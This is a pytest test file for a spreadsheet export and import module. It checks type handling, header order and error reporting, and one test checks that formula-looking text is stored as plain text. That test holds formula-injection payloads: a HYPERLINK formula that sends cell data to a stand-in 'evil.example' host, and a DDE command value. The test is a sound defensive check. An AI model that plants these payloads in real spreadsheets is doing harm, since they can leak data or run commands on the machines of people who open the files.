import datetime as dt
import io

import pytest
from openpyxl import Workbook, load_workbook

from alliance import xlsx


def _export(rows, headers=("名称", "说明")):
    buffer = io.BytesIO()
    xlsx.write_workbook(buffer, [xlsx.Sheet("导出", list(headers), rows)])
    buffer.seek(0)
    return load_workbook(buffer)


def test_export_writes_formula_looking_text_as_plain_text():
    payload = '=HYPERLINK("http://evil.example/steal?d="&A1,"点击查看")'

    ws = _export([[payload, "+cmd|' /C calc'!A0"], ["@SUM(1+1)", "-2+3"]]).active

    assert ws["A2"].value == payload
    assert ws["A2"].data_type == "s"
    assert ws["B2"].value == "+cmd|' /C calc'!A0"
    assert ws["A3"].value == "@SUM(1+1)"
    assert ws["B3"].value == "-2+3"
    assert all(cell.data_type != "f" for row in ws.iter_rows() for cell in row)


def test_export_keeps_numbers_and_dates_typed_and_drops_control_characters():
    ws = _export([[42, dt.date(2024, 3, 2)], ["a\x00b\x07c", None]]).active

    assert ws["A2"].value == 42
    assert ws["B2"].value == dt.datetime(2024, 3, 2)
    assert ws["A3"].value == "abc"
    assert ws["B3"].value is None


def test_export_header_row_is_first():
    ws = _export([["x", "y"]]).active

    assert [c.value for c in ws[1]] == ["名称", "说明"]


def test_xlsx_response_streams_a_workbook():
    response = xlsx.xlsx_response("名单.xlsx", [xlsx.Sheet("名单", ["姓名"], [["张三"]])])

    body = b"".join(response.streaming_content)
    assert response["Content-Type"] == xlsx.XLSX_CONTENT_TYPE
    assert "attachment" in response["Content-Disposition"]
    assert load_workbook(io.BytesIO(body)).active["A2"].value == "张三"


COLUMNS = [
    xlsx.Column("姓名", "name", xlsx.parse_text),
    xlsx.Column("数量", "quantity", xlsx.parse_int),
    xlsx.Column("日期", "on", xlsx.parse_date),
    xlsx.Column("备注", "note", xlsx.parse_text, required=False),
]


def _sheet(rows, headers=("姓名", "数量", "日期", "备注")):
    wb = Workbook()
    ws = wb.active
    ws.append(list(headers))
    for row in rows:
        ws.append(list(row))
    buffer = io.BytesIO()
    wb.save(buffer)
    buffer.seek(0)
    return buffer


def test_import_returns_parsed_rows_with_their_row_numbers():
    rows = xlsx.read_sheet(_sheet([["张三", 2, "2024-03-02", None], ["李四", "3", dt.date(2024, 4, 1), "ok"]]), COLUMNS)

    assert rows == [
        {"_row": 2, "name": "张三", "quantity": 2, "on": dt.date(2024, 3, 2), "note": None},
        {"_row": 3, "name": "李四", "quantity": 3, "on": dt.date(2024, 4, 1), "note": "ok"},
    ]


def test_import_reports_every_bad_cell_with_row_and_column():
    with pytest.raises(xlsx.SheetErrors) as excinfo:
        xlsx.read_sheet(
            _sheet([["张三", "two", "2024-03-02"], [None, 1, "not a date"], ["王五", 1.5, "2024-01-01"]]), COLUMNS
        )

    assert [(e.row, e.column) for e in excinfo.value.errors] == [(2, "数量"), (3, "姓名"), (3, "日期"), (4, "数量")]
    assert str(excinfo.value.errors[0]) == "row 2, 数量: 请填写整数。"


def test_import_reports_missing_columns():
    with pytest.raises(xlsx.SheetErrors) as excinfo:
        xlsx.read_sheet(_sheet([], headers=("姓名",)), COLUMNS)

    assert {e.column for e in excinfo.value.errors} == {"数量", "日期"}


def test_import_refuses_a_file_that_is_not_xlsx():
    with pytest.raises(xlsx.SheetErrors) as excinfo:
        xlsx.read_sheet(io.BytesIO(b"name,quantity\nx,1\n"), COLUMNS)

    assert excinfo.value.errors[0].column == "file"
